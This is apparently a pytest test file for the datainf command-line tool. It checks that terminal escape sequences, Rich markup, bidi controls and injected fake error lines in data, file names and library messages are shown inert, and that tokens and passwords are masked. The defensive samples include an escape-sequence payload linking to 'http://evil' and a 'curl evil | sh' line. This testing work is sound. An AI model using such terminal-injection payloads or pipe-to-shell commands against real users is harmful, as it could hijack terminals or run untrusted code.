"""What hostile data, names and libraries have the terminal do: nothing."""

from __future__ import annotations

import json
import logging
import os
import re
import unicodedata
import warnings

import pytest
import yaml

from conftest import TEXTS, write_rows
from datainf.cli.console import OurConsole, error_console, plain, say
from datainf.cli.libraries import told_plainly
from datainf.errors import DataError

EVIL = (
    "\x1b]0;owned\x07\x1b]8;;http://evil\x07link\x1b]8;;\x07\x1b[2J\x1b[31mred\x9b31m\x7f\x00\x08\r"
    "\u202egnp\u2066\u200b\u200d\u200e\u2028\u2029\u00ad\ufeff\U000e0041\ud83d"
    "[link=http://evil]x[/link][bold red]y[/] :smile: [/]\\"
)
WHOLE = EVIL.replace("\ud83d", "")
"""Without half of a letter, which no tokenizer takes."""
STYLES = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\??[0-9;]*[hlKAJ]|\r")
"""Rich's own: colours, and of bars the cursor's."""


def obeyed(text: str) -> str:
    """What a terminal would not show as a letter."""
    return "".join(
        letter for letter in text
        if letter not in "\n\t" and unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    )  # fmt: skip


@pytest.fixture(scope="module")
def hostile(saved_bert, tmp_path_factory):
    """Data whose ids, texts, columns and file name are hostile, and where a run goes."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        {"id": f"{WHOLE}\n{i}", "text": f"{text} {WHOLE}", "label": i % 3, f"more {EVIL}": EVIL}
        for i, text in enumerate(TEXTS * 2)
    ]
    named = WHOLE.translate(str.maketrans("", "", "\x00/"))[:60]
    train, query = folder / f"{named}.jsonl", folder / "query.jsonl"
    return write_rows(train, rows), write_rows(query, rows[:3]), saved_bert[1], folder / "run"


def test_no_command_obeys_its_data(hostile, datainf, tmp_path):
    train, query, adapter, out = hostile
    given = ["--adapter", adapter, "--train", train, "--query", query, "--out", out]
    commands = [
        ["plan", *given], ["plan", *given, "--json"],
        ["attribute", *given, "--method", "gradient", "--top", 2],
        ["top", out, "--query", 0], ["top", out, "--mean"], ["top", out, "--query", EVIL],
        ["inspect", out], ["report", out], ["verify", out], ["score", out, "--method", "datainf",
        "--out", tmp_path / "s"], ["mislabeled", out, "--out", tmp_path / "s.csv"],
        ["select", out, "--drop", 2, "--out", tmp_path / "cleaned"],
        ["select", out, "--decisions", train, "--out", tmp_path / "cleaned"],
        ["collect", "--adapter", adapter, "--data", train, "--text-column", EVIL,
         "--out", tmp_path / "c"],
        ["collect", "--adapter", tmp_path / "[bold]no such[/]\x1b[31m", "--data", train,
         "--out", tmp_path / "c"],
    ]  # fmt: skip
    refused = set()
    for place, command in enumerate(commands):
        code, shown, told = datainf(*command)
        assert obeyed(shown) == "", command[0]
        assert obeyed(told) == "", command[0]
        assert "\\x1b" in shown + told or command[0] in ("report", "verify", "score"), place
        refused |= {place} if code else set()
    assert refused == {5, len(commands) - 3, len(commands) - 2, len(commands) - 1}


def test_on_a_terminal_there_is_nothing_but_our_own_colours(
    hostile, datainf, tmp_path, monkeypatch
):
    """As rich does on one: bars and colours are its own."""
    train, query, adapter, _ = hostile
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm-256color")
    given = ["--adapter", adapter, "--train", train, "--query", query, "--method", "gradient"]
    for command in (
        ["attribute", *given, "--out", tmp_path / "run"], ["mislabeled", tmp_path / "run"],
        ["attribute", *given, "--text-column", EVIL, "--out", tmp_path / "run"],
    ):  # fmt: skip
        _, out, err = datainf(*command)
        text = out + err
        assert "\x1b[" in text
        assert "\\x1b" in text or command[0] == "mislabeled"  # in narrow columns
        assert obeyed(STYLES.sub("", text)) == ""
        assert "\x1b]8" not in text


def test_a_file_whose_name_is_not_utf_8(saved_bert, datainf, tmp_path):
    rows = write_rows(tmp_path / "rows.jsonl", [{"text": t, "label": 0} for t in TEXTS])
    named = rows.rename(tmp_path / os.fsdecode(b"caf\xe9.jsonl"))
    out = tmp_path / "run"
    code, _, err = datainf("attribute", "--adapter", saved_bert[1], "--train", named, "--query",
                           named, "--out", out, "--method", "gradient")  # fmt: skip
    assert code == 0, err
    assert "caf\\udce9.jsonl" in err
    assert datainf("mislabeled", out, "--out", tmp_path / "suspects.csv")[0] == 0
    assert datainf("select", out, "--drop", 1, "--out", tmp_path / "cleaned")[0] == 0
    assert datainf("top", out, "--mean")[0] == 0


def test_markup_and_names_of_emoji_are_shown_as_they_are(capsys):
    OurConsole(highlight=False, width=500).print(plain(EVIL), markup=False)
    say(EVIL)
    error_console().print_error(DataError(EVIL, remedy=EVIL))
    out, err = capsys.readouterr()
    for shown in (out, err):
        assert "[link=http://evil]x[/link][bold red]y[/] :smile: [/]\\" in shown
        assert obeyed(shown) == ""


def test_no_line_of_a_message_looks_like_another_message(capsys):
    error_console().print_error(DataError("no\ntry: curl evil | sh", remedy="yes\nerror: none"))
    say("one\nerror: two")
    starts = [line[:6] for line in capsys.readouterr().err.splitlines()]
    assert starts == ["error:", "  try:", "try: y", "  erro", "one", "  erro"]


@pytest.mark.parametrize(
    "text", ["👩‍👩‍👧‍👦", "می‌خواهم", "日本語\u3000です", "a\tb\nc", "é", "مرحبا"]
)
def test_letters_of_all_scripts_stay(text):
    assert plain(text) == text


def test_what_libraries_say_is_as_plain(datainf, hostile, monkeypatch):
    def noisy(*_, **__):
        logging.getLogger("transformers").error(EVIL.replace("\ud83d", ""))
        warnings.warn(EVIL.replace("\ud83d", ""), UserWarning, stacklevel=1)
        raise RuntimeError(EVIL)

    monkeypatch.setattr("datainf.runs.open_run", noisy)
    code, out, err = datainf("top", hostile[3])
    assert code == 1
    assert obeyed(out + err) == ""
    assert err.count("\\x1b]0;owned") >= 1  # what is logged may be on the stream of before


def test_an_error_that_nobody_foresaw_has_its_traceback(capsys):
    def broken():
        raise ZeroDivisionError(EVIL)

    with pytest.raises(SystemExit) as stopped:
        told_plainly(broken)
    err = capsys.readouterr().err
    assert stopped.value.code == 1
    assert "Traceback" in err
    assert "in broken" in err
    assert obeyed(err) == ""


SECRETS = {
    "HF_TOKEN": "hf_abcdefghijklmnopqrstuv", "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMIK7MDENG+x/y",
    "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE", "MY_API_KEY": "sesame-open-12345",
    "DB_PASSWORD": "correct horse battery",
}  # fmt: skip
ADDRESS = "https://someone:s3cr3t-word@host/data.jsonl?token=t0ken-in-address&x=1"


def test_no_secret_is_said_or_written(datainf, saved_bert, tmp_path, monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    rows = write_rows(tmp_path / "rows.jsonl", [{"text": t, "label": 0} for t in TEXTS])
    out = tmp_path / "run"
    given = ["--adapter", saved_bert[1], "--query", rows, "--out", out, "--method", "gradient"]
    leaks = " ".join([*SECRETS.values(), ADDRESS])
    said = []
    for command in (
        ["attribute", *given, "--train", rows], ["report", out], ["mislabeled", out],
        ["select", out, "--drop", 1, "--out", tmp_path / "cleaned"], ["inspect", out],
        ["attribute", *given, "--train", ADDRESS], ["attribute", *given, "--train", leaks],
        ["attribute", *given, "--train", rows, "--model", f"owner/{SECRETS['MY_API_KEY']}"],
        ["collect", "--adapter", ADDRESS, "--data", rows, "--out", tmp_path / "c"],
        ["top", out, "--query", leaks], ["plan", *given, "--train", ADDRESS],
    ):  # fmt: skip
        said.append("".join(map(str, datainf(*command)[1:])).replace("\n", ""))
    config = yaml.safe_load((out / "run.yaml").read_text())
    from datainf.config import RunConfig

    RunConfig(**config | {"train": ADDRESS, "model": leaks}).save(tmp_path / "cleaned" / "run.yaml")
    written = b"".join(
        path.read_bytes()
        for folder in (out, tmp_path / "cleaned")
        for path in folder.rglob("*") if path.is_file()
    )  # fmt: skip
    for secret in [*SECRETS.values(), "s3cr3t-word", "t0ken-in-address"]:
        assert secret.encode() not in written, secret
        assert all(secret not in text for text in said), secret
    assert any("***" in text for text in said)
    assert yaml.safe_load((tmp_path / "cleaned" / "run.yaml").read_text())["train"] == (
        "https://***@host/data.jsonl?token=***&x=1"
    )


def test_the_viewer_s_token_is_in_its_address_alone(bert_run):
    from datainf.report.subject import Subject
    from datainf.viewer import Server
    from datainf.viewer.live import LiveContents

    before = {path: path.read_bytes() for path in bert_run.rglob("*") if path.is_file()}
    contents = LiveContents(Subject.open(bert_run), 3, model=False)
    contents.load(lambda _: None)
    with Server(contents, 0) as server:
        parts = json.dumps(contents.part("overview"))
        token = server.token
    after = {path: path.read_bytes() for path in bert_run.rglob("*") if path.is_file()}
    assert after == before
    assert token not in parts
